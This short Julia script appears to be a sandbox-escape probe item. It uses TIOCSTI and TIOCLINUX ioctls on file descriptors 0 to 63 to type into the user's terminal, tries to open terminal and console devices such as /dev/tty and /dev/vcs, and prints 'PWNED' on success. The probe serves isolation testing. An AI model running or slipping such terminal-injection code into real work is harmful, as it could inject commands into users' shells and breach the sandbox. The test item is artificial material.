# tries: to type into the user's terminal and to write to it | got through if: output contains PWNED
answer(x) = 0
for fd in 0:63, request in (0x5412, 0x541C)                                # TIOCSTI, TIOCLINUX
    ccall(:ioctl, Cint, (Cint, Culong, Ptr{UInt8}), fd, request, UInt8['x']) == 0 && println("PWNED ioctl on ", fd)
end
for terminal in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/dev/vcs")
    ccall(:open, Cint, (Cstring, Cint), terminal, 2) >= 0 && println("PWNED ", terminal)
end
